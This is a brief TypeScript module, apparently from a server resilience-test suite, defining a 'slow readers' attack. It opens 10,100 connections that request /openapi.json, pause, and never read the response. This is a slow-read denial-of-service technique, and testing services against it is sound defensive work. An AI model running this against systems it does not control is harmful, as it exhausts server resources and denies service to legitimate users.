import type { Attack } from './attack.ts'
import { keepConnections } from './connections.ts'

/** 10,100 connections that ask for the largest document and never read it. */
export const attack: Attack = {
  name: 'slow readers: 10,100 connections that never read their answer',
  async start({ url }) {
    return keepConnections(url, (socket) => {
      // The system keeps what it received: the window closes, and the service cannot send the rest.
      socket.pause()
      socket.write('GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n')
    })
  },
}
